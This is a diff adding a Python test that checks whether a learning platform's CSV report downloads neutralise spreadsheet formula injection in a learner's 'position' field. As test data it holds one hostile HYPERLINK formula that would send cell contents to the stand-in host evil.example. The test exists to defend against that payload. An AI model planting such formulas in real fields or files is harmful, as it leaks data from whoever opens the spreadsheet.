@@ -292,3 +292,22 @@ def test_the_agency_admin_finds_the_pages_in_both_languages(world):
     assert en.status == 200 and "Agency staff" in en.text and "Waiting for confirmation" in en.text
     en = world.admin.get("/learning/agency/%s/report?lang=en" % world.agency)
     assert en.status == 200 and "Staff learning report" in en.text
+
+
+def test_report_downloads_never_hand_a_spreadsheet_a_formula(server, world):
+    # A learner's position is their own text: in a report someone opens in Excel, it must read
+    # as text, not run (CSV injection). Numbers stay numbers.
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"คลิก")'
+    b, name = world.learner(position=hostile)
+    assert world.staff_action(world.admin, "confirm", name).status == 303
+    enrol(b, world.course)
+    for browser, path in ((world.admin, "/learning/agency/%s/report?format=csv&lang=th" % world.agency),
+                          (world.author.browser, "/learning/course/%s/report?format=csv&lang=th" % world.course)):
+        r = browser.get(path)
+        assert r.status == 200, r.text[:2000]
+        rows = list(csv.reader(io.StringIO(r.body[3:].decode("utf-8"))))
+        header = rows[0]
+        mine = dict(zip(header, next(row for row in rows[1:] if row[2] == name)))
+        assert mine.get("ตำแหน่ง") == "'" + hostile, (header, mine)
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row), path
+        assert mine["ความก้าวหน้า (%)"] == "0"  # a number column: as it was
